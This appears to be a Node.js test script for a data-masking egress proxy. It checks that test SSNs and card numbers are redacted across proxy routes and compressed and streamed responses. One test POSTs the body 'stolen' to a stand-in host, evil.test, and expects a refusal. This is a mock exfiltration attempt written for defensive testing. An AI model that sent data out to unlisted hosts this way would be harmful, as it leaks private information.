// Node's fetch through all faces: by NODE_USE_ENV_PROXY where this Node knows it, else by undici's
// agent, which reads the same variables.
'use strict';

const assert = require('node:assert/strict');

const [major, minor] = process.versions.node.split('.').map(Number);
const builtIn = major > 24 || (major === 24 && minor >= 5) || (major === 22 && minor >= 21);
if (!builtIn) {
  const { setGlobalDispatcher, EnvHttpProxyAgent } = require('undici');
  setGlobalDispatcher(new EnvHttpProxyAgent());
}

const base = process.env.OPENAI_BASE_URL.split('/r/')[0];
const authorization = `Bearer ${process.env.OPENAI_API_KEY}`;
const faces = {
  reverse: (path) => [`${base}/r/api${path}`, { authorization }],
  tunnel: (path) => [`https://listed.test${path}`, {}],
  forward: (path) => [`http://listed.test${path}`, {}],
};
const secrets = ['536-22-8726', '4012888888881881'];

async function everywhere (path, init, look) {
  for (const [face, make] of Object.entries(faces)) {
    const [url, own] = make(path);
    const answer = await fetch(url, { ...init, headers: { ...own, ...init.headers } });
    const text = await answer.text();
    for (const secret of secrets) assert(!text.includes(secret), `${face}: ${text}`);
    look(answer, text, face);
  }
}

const steps = {
  async jsonIsMasked () {
    await everywhere('/customers', {}, (answer, text) => {
      const [ada] = JSON.parse(text);
      assert.equal(ada.ssn, '[REDACTED]');
      assert.equal(ada.name, 'Ada');
    });
  },
  async whatIsCompressedIsMasked () {
    await everywhere('/gzip', {}, (answer, text) => {
      assert.equal(JSON.parse(text)[0].ssn, '[REDACTED]');
    });
  },
  async eventsAreMasked () {
    await everywhere('/events', {}, (answer, text) => {
      const events = text.split('\n\n').filter(Boolean);
      assert.equal(events.length, 3);
      for (const event of events) {
        assert.equal(JSON.parse(event.split('data: ')[1]).ssn, '[REDACTED]');
      }
    });
  },
  async whatNoRuleConcernsPassesUnchanged () {
    const body = JSON.stringify({ text: 'Grüße  ', n: 1000 });
    const init = { method: 'POST', body, headers: { 'content-type': 'application/json' } };
    await everywhere('/echo?a=1', init, (answer, text) => {
      assert.equal(text, body);
      assert.equal(answer.headers.get('x-target'), '/echo?a=1');
    });
  },
  async aPostToAHostThatIsNotListedIsRefused () {
    for (const scheme of ['https', 'http']) {
      const answer = await fetch(`${scheme}://evil.test/x`, { method: 'POST', body: 'stolen' });
      assert.equal(answer.status, 403);
      assert.equal(answer.ok, false);
      assert.equal(answer.headers.get('content-type'), 'application/problem+json');
      assert.match((await answer.json()).detail, /evil\.test/);
    }
  },
  async aHundredAtOnce () {
    for (const make of Object.values(faces)) {
      const [url, headers] = make('/customers');
      const one = async () => (await (await fetch(url, { headers })).json())[0].ssn;
      const all = await Promise.all(Array.from({ length: 100 }, one));
      assert.deepEqual(new Set(all), new Set(['[REDACTED]']));
    }
  },
};

async function tell () {
  let failed = false;
  for (const [name, one] of Object.entries(steps)) {
    try {
      await one();
      console.log(`ok ${name}`);
    } catch (error) {
      failed = true;
      console.log(`FAILED ${name}\n${error.stack}\n${error.cause}`);
    }
  }
  process.exit(failed ? 1 : 0);
}

tell();
